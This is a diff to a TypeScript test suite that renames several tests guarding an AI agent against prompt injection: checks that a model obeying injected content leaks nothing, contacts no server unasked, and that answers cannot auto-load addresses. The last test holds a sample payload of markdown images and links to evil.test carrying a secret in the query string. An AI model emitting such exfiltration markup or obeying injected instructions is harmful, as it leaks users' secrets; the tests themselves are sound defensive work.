@@ -187,7 +187,7 @@ async function attacked(vector: (sites: Sites) => Vector, verdict: boolean) {
 
 describe("a model that obeys what stands in", () => {
   it.each(Object.keys(vectors))(
-    "a model that obeys %s gets nothing out and changes nothing",
+    "a model that obeys %s gets nothing out and changes nothing [address-6]",
     async (name) => {
       const { evil, known, mail, answer, asked, pinned } = await attacked(
         vectors[name] ?? (() => ({})),
@@ -225,7 +225,7 @@ describe("a model that obeys what stands in", () => {
   });
 });
 
-it("a server is sent nowhere unasked, however the address is written", async () => {
+it("a server is sent nowhere unasked, however the address is written [address-5]", async () => {
   const family = oneOf(
     loneAddress,
     withDropped(loneAddress),
@@ -242,7 +242,7 @@ it("a server is sent nowhere unasked, however the address is written", async () 
   expect(world.mail?.effects).toEqual(["open_page lunch.test/menu"]);
 });
 
-it("no surface loads or previews an address of an answer by itself", () => {
+it("no surface loads or previews an address of an answer by itself [address-9]", () => {
   const answer = `![](https://evil.test/i?d=${secret}) ![](/\\evil.test/i) [more](https://evil.test/l?d=${secret})`;
   const html = Parser.parse(Lexer.lex(answer), { renderer: new AnswerRenderer() });
   expect(html).not.toContain("<img");
